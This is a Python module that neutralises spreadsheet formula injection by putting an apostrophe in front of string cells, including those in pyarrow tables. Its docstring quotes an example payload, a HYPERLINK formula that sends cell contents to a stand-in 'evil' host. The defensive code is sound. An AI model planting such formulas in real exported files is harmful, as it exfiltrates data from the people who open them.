"""CSV/XLSX formula injection (CWE-1236): a text cell that a spreadsheet would read as a
formula — starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return — is written
with a leading apostrophe, so ``=HYPERLINK("http://evil/?"&A1)`` stays text when an analyst
opens the file. Numbers are typed columns and are not touched."""

from __future__ import annotations

from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralize(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def neutralize_table(table):
    """A pyarrow Table with every string column's values neutralized."""
    import pyarrow as pa

    columns = []
    for column in table.columns:
        if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
            column = pa.array([neutralize(v) for v in column.to_pylist()], type=column.type)
        columns.append(column)
    return pa.Table.from_arrays(columns, schema=table.schema)
